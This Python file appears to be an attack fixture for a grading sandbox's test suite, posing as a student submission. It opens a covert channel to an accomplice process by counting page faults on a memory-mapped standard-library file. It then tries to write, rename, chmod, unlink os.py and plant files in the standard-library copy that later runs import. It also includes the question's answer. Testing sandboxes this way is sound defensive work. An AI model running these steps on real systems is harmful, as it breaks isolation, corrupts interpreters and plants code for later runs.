"""A student's file for the page-cache attack (tests/test_attacks.py::test_page_cache_channel_*): q1
answered right, and a channel with the accomplice (page_cache_accomplice.py) through the page cache of
a standard-library file, told apart without timing (major page faults counted by getrusage). It reads
the machine's standard library where it can (sys.base_prefix), else the one its interpreter imports from.
Prints the 16 bits it read and where; sends 0xBEEF. Then tries to change the copy of the standard library it
imports from (kept for the next runs' children where they cannot write it: grader/sandbox/stdlib_copy.py)
and prints how each try ended."""

import errno
import mmap
import os
import resource
import sys

PAGE = 4096
SENT = 0xBEEF


def _topics():
    machine = os.path.join(sys.base_prefix, "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}")
    for folder in (machine, os.path.dirname(os.__file__)):
        try:
            return os.path.join(folder, "pydoc_data", "topics.py"), open(
                os.path.join(folder, "pydoc_data", "topics.py"), "rb"
            )
        except OSError:
            pass
    raise OSError("no topics.py")


def _faults():
    return resource.getrusage(resource.RUSAGE_SELF).ru_majflt


def channel():
    path, file = _topics()
    with file:
        pages = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)
        pages.madvise(mmap.MADV_RANDOM)
        got = 0
        for bit in range(16):
            before = _faults()
            pages[bit * 8 * PAGE]
            if _faults() == before:  # no major fault: the page was in memory, a 1
                got |= 1 << bit
        for bit in range(16):
            if SENT >> bit & 1:
                pages[(130 + bit * 3) * PAGE]
        pages[129 * PAGE]  # ready
        pages.close()
    return path, got


def change_the_copy():
    """Each way a student would change or add a file in the standard library it imports from: the errno
    name each got, or 'done'."""
    folder = os.path.dirname(os.__file__)
    target = os.path.join(folder, "os.py")
    tries = {
        "open_for_writing": lambda: open(target, "r+b").close(),
        "create": lambda: open(os.path.join(folder, "planted.py"), "x").close(),
        "rename": lambda: os.rename(target, os.path.join(folder, "os_moved.py")),
        "chmod": lambda: os.chmod(target, 0o666),
        "utime": lambda: os.utime(target, (0, 0)),
        "unlink": lambda: os.unlink(target),
        "link": lambda: os.link(__file__, os.path.join(folder, "planted_link.py")),
    }
    ended = {}
    for name, attempt in tries.items():
        try:
            attempt()
            ended[name] = "done"
        except OSError as exc:
            ended[name] = errno.errorcode.get(exc.errno, str(exc.errno))
    return ended


def solution_42():
    path, got = channel()
    print(f"read {got:#06x} from {path}")
    print("changes", " ".join(f"{name}={how}" for name, how in change_the_copy().items()))
    return [1, 2, 4, 5, 10, 20, 21, 42]
